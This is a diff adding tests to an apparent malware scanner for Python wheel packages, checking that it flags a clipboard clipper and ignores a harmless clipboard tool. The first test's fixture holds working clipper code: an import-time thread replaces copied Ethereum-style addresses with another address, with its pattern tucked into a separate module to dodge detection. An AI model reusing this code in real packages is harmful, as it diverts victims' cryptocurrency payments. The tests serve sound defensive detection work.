@@ -128,3 +128,36 @@ test('a filter that hides tokens in logs is silent', async () => {
 
   expect(await inspect('spyware', file)).toEqual([]);
 });
+
+test('a clipper is one however its patterns are spelled, and wherever they are kept', async () => {
+  const file = wheel({
+    'pkg/_tables.py': python("VALUE = '^0x[a-fA-F0-9]{40}$'", "OURS = '0x' + '0' * 40"),
+    'pkg/__init__.py': python(
+      'import re, threading, pyperclip',
+      'from . import _tables as t',
+      'known = re.compile(t.VALUE)',
+      'def watch():',
+      '    while True:',
+      '        if known.match(pyperclip.paste()):',
+      '            pyperclip.copy(t.OURS)',
+      'threading.Thread(target=watch, daemon=True).start()',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toMatchObject([{ class: 'malware', score: 10, line: 7 }]);
+});
+
+test('a clipboard tool that tells addresses of mail apart stays silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import re, pyperclip',
+      "MAIL = re.compile(r'^[\\w.]+@[\\w.]+$')",
+      'def tidy():',
+      '    text = pyperclip.paste()',
+      '    if MAIL.match(text):',
+      '        pyperclip.copy(text.lower())',
+    ),
+  });
+
+  expect(await inspect('spyware', file)).toEqual([]);
+});
